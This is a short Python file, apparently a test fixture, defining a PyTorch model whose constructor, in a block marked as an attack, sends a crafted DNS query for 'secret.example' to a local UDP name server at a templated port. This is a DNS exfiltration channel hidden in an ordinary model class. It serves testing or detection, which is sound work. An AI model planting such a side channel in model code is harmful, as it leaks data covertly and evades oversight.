"""Asks a name server of its own for a name that holds what it knows."""

import socket

from torch import nn


class Model(nn.Module):
    def __init__(self):
        super().__init__()
        self.head = nn.Linear(64, 10)
        # attack
        query = b"\0\1\1\0\0\1\0\0\0\0\0\0\6secret\7example\0\0\1\0\1"
        way = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        way.connect(("127.0.0.1", int("@UDP_PORT@")))
        way.send(query)
        # end

    def forward(self, x):
        return self.head(x.flatten(1))
